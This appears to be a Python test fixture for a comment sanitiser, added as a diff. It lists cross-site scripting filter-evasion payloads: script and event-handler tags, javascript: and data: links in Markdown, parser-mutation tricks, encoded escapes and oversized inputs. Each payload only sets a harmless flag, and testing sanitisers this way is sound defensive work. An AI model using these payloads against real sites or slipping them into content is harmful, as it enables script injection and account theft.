@@ -1,0 +1,176 @@
+"""Text that tries to run a script, after the filter-evasion lists of OWASP and PortSwigger.
+
+Whatever runs sets `window.hacked`.
+"""
+
+from __future__ import annotations
+
+_RUN = "window.hacked=1"
+
+ELEMENTS = [
+    f"<script>{_RUN}</script>",
+    f"<SCRIPT>{_RUN}</SCRIPT>",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"<script\x20type='text/javascript'>{_RUN};</script>",
+    f"<script/src=data:,{_RUN}></script>",
+    f"<<SCRIPT>{_RUN};//<</SCRIPT>",
+    f"<script x> {_RUN} </script 1=2",
+    "<script src=//e.example/x.js",
+    f"<img src=x onerror={_RUN}>",
+    f"<img src=x onerror='{_RUN}'>",
+    f'<img """><script>{_RUN}</script>">',
+    f"<img/src='x'/onerror={_RUN}>",
+    f"<img src=x:x onerror\n={_RUN}>",
+    f'<IMG SRC=/ onerror="{_RUN.replace("w", "&#119;")}">',
+    f"<IMG SRC=javascript:{_RUN}>",
+    f"<IMG SRC=`javascript:{_RUN}`>",
+    f"<IMG DYNSRC='javascript:{_RUN}' LOWSRC='javascript:{_RUN}'>",
+    f"<svg/onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked=1>#x'/></svg>",
+    f"<math><a xlink:href='javascript:{_RUN}'>x</a></math>",
+    f"<body onload={_RUN}>",
+    f"<BODY ONLOAD ={_RUN}>",
+    f"<details open ontoggle={_RUN}>x</details>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<select autofocus onfocus={_RUN}>",
+    f"<textarea autofocus onfocus={_RUN}>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src onerror={_RUN}>",
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<iframe srcdoc='<script>parent.{_RUN[7:]}</script>'></iframe>",
+    f"<iframe src='javascript:parent.{_RUN[7:]}'></iframe>",
+    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
+    f"<embed src='javascript:{_RUN}'>",
+    f"<form action='javascript:{_RUN}'><button>x</button></form>",
+    f"<button form=gz formaction='javascript:{_RUN}'>x</button>",
+    f"<isindex type=image src=1 onerror={_RUN}>",
+    f"<base href='javascript:{_RUN}//'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
+    f"<link rel=stylesheet href='javascript:{_RUN}'>",
+    f"<style>@import 'javascript:{_RUN}';</style>",
+    f"<style onload={_RUN}></style>",
+    f"<div style=\"background:url('javascript:{_RUN}')\">x</div>",
+    f"<x onclick={_RUN} style=position:fixed;inset:0>x</x>",
+    f"<xss id=x tabindex=1 onfocus={_RUN}></xss>",
+    f"<a href='javascript:{_RUN}'>x</a>",
+    f"<a onmouseover={_RUN}>x</a>",
+    f"<template><img src=x onerror={_RUN}></template>",
+    f"<gazette-comments post=x><img src=x onerror={_RUN}></gazette-comments>",
+]
+"""Elements and attributes."""
+
+ESCAPES = [
+    f"</textarea></template></title></style><script>{_RUN}</script>",
+    f"--><script>{_RUN}</script><!--",
+    f"]]><script>{_RUN}</script>",
+    f"\"'><script>{_RUN}</script>",
+    f'" onfocus="{_RUN}" autofocus x="',
+    f"' onfocus='{_RUN}' autofocus x='",
+    f"`-{_RUN}-`",
+    f"${{{_RUN}}}",
+    "{{ 7 * 7 }}{% raise %}{# x #}",
+    f'\\";{_RUN};//',
+    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
+    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
+    f"%3Cscript%3E{_RUN}%3C/script%3E",
+    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
+    f"\ufeff<script>{_RUN}</script>",
+    f"<\x00script>{_RUN}</script>",
+    f"<img src=x\x0conerror={_RUN}>",
+    "\u202eright to left\u202c \u2067isolated\u2069",
+]
+"""Ways out of where the text stands."""
+
+MUTATIONS = [
+    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
+    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
+    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
+    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
+    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
+    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
+    f'<select><template><style><!--</style><a rel="--></style></template><img onerror={_RUN}>">',
+    f"<table><td><a><table></table><a></tr><a></table><b><img src=x onerror={_RUN}></b></a>",
+    f"<p><p><p>{'<a>' * 50}<img src=x onerror={_RUN}>",
+]
+"""HTML that sanitisers have let pass because parsers read it differently a second time."""
+
+LINKS = [
+    f"[x](javascript:{_RUN})",
+    f"[x](JaVaScRiPt:{_RUN})",
+    f"[x]( javascript:{_RUN} )",
+    f"[x](<javascript:{_RUN}>)",
+    f"[x](java&#115;cript:{_RUN})",
+    f"[x](java\\script:{_RUN})",
+    f"[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{_RUN})",
+    f"[x](java&Tab;script&colon;{_RUN})",
+    f"[x](&NewLine;javascript:{_RUN})",
+    f"[x](&#1;javascript:{_RUN})",
+    f"[x](java&#x0A;script:{_RUN})",
+    f"[x](javascript://e.example/%0A{_RUN})",
+    f"[x](vbscript:{_RUN})",
+    "[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)",
+    f"[x](data:text/html,<script>{_RUN}</script>)",
+    "[x](blob:https://e.example/1)",
+    "[x](file:///etc/passwd)",
+    "[x](//e.example/x)",
+    "[x](\\\\e.example\\x)",
+    "[x](/path) [y](?query) [z](#gz-comments-title)",
+    f"[x](https://e.example/'onmouseover='{_RUN})",
+    f'[x](<https://e.example/"onmouseover="{_RUN}>)',
+    f"[x](https://e.example/ 'a\" onmouseover=\"{_RUN}')",
+    f"[x]: javascript:{_RUN}\n\n[x]",
+    f"[x]: <javascript:{_RUN}> 'title'\n\n[a][x] ![b][x]",
+    f"<javascript:{_RUN}>",
+    f'<https://e.example/"onmouseover="{_RUN}>',
+    f'![x](x" onerror="{_RUN})',
+    "![x](https://e.example/x.png)",
+    f"![x](data:image/svg+xml,<svg onload={_RUN}>)",
+    f"[![x](https://e.example/x.png)](javascript:{_RUN})",
+    f"[<img src=x onerror={_RUN}>](https://e.example/)",
+    f'https://e.example/"onmouseover={_RUN}',
+    f"https://e.example/<script>{_RUN}</script>",
+    f"http://javascript:{_RUN}@e.example/",
+    f"[x\n](javascript:{_RUN})",
+    f"[x](javascript:{_RUN}\n)",
+    f"[a](https://e.example/[b](javascript:{_RUN}))",
+]
+"""Markdown that leads astray, or loads from elsewhere."""
+
+MARKDOWN = [
+    f"**bold <b onmouseover={_RUN}>x** y</b>",
+    f"`<script>{_RUN}</script>`",
+    f'```"><script>{_RUN}</script>\n</code></pre><script>{_RUN}</script>\n```',
+    f"```<img src=x onerror={_RUN}>\nx\n```",
+    f"    </pre><script>{_RUN}</script>",
+    f"# <img src=x onerror={_RUN}>\n## x\n---\n",
+    f"> <div onmouseover={_RUN}>\n> > <script>\n{_RUN}\n</script>",
+    f"- <li><script>{_RUN}</script>\n  1) </ol></ul><svg onload={_RUN}>",
+    f"<div>\n*x*\n\n<script>\n\n{_RUN}\n\n</script>\n\n</div>",
+    f"<!-- --!><script>{_RUN}</script> -->",
+    f'<?php {_RUN} ?> <!DOCTYPE x [<!ENTITY a "{_RUN}">]> <![CDATA[<script>{_RUN}</script>]]>',
+    "| a | b |\n|---|---|\n| <script>window.hacked=1</script> | x |",
+    "[^1]\n\n[^1]: <script>window.hacked=1</script>",
+    "&copy; &#0; &#xD800; &#x110000; &NotEqualTilde; &unknown;",
+]
+"""Markup among Markdown."""
+
+LONG = [
+    "x" * 20_000,
+    "> " * 4_000 + "x",
+    "*a **b " * 1_200,
+    "[" * 5_000 + "](x)",
+    "![[]()" * 1_500,
+    "- " * 2_000 + "x",
+    "<" * 9_000,
+    "`" * 4_000 + "x" + "`" * 3_999,
+    "&" * 9_000 + "amp;",
+    "https://e.example/" * 500,
+]
+"""Text that costs time, or room on the screen, or depth."""
+
+ALL = [*ELEMENTS, *ESCAPES, *MUTATIONS, *LINKS, *MARKDOWN, *LONG]
